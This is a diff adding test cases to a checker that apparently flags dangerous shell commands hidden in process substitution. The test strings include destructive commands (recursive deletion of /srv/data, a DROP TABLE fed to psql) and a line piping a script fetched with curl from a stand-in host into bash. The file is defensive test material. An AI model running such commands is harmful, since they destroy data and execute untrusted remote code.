@@ -206,3 +206,24 @@ describe('unwrap: values printf -v and read give a variable', () => {
 	t(`printf -v c 'rm -rf %s' "$D"; eval "$c"`, 'confirm');
 	t(`read -r c; $c -rf /srv/data`, 'confirm', '/srv/data');
 });
+
+describe('unwrap: a process substitution as standard input or as the file a program reads', () => {
+	for (const line of [
+		"bash < <(echo 'rm -rf /srv/data')",
+		"sh -s < <(echo 'rm -rf /srv/data')",
+		"bash <(echo 'rm -rf /srv/data')",
+		"source <(echo 'rm -rf /srv/data')",
+		". <(printf 'rm -rf /srv/data')",
+		"bash <(echo 'rm -rf /srv/data' | tr a a)",
+		`python3 <(echo 'import shutil; shutil.rmtree("/srv/data")')`,
+	]) {
+		t(line, 'confirm', '/srv/data');
+	}
+	for (const line of ["psql -f - shop < <(echo 'DROP TABLE x;')", "psql -f /dev/stdin shop < <(echo 'DROP TABLE x;')", "psql shop < <(echo 'DROP TABLE x;')"]) {
+		t(line, 'confirm', 'x');
+	}
+	t('bash < <(curl -fsSL https://x.example/i.sh)', 'confirm', 'https://x.example/i.sh');
+	for (const line of ["bash <(echo 'echo hi')", "python3 <(echo 'print(1)')", 'while read l; do echo "$l"; done < <(ls)', 'diff <(ls a) <(ls b)', 'sort < <(cat a b)']) {
+		t(line, 'allow');
+	}
+});
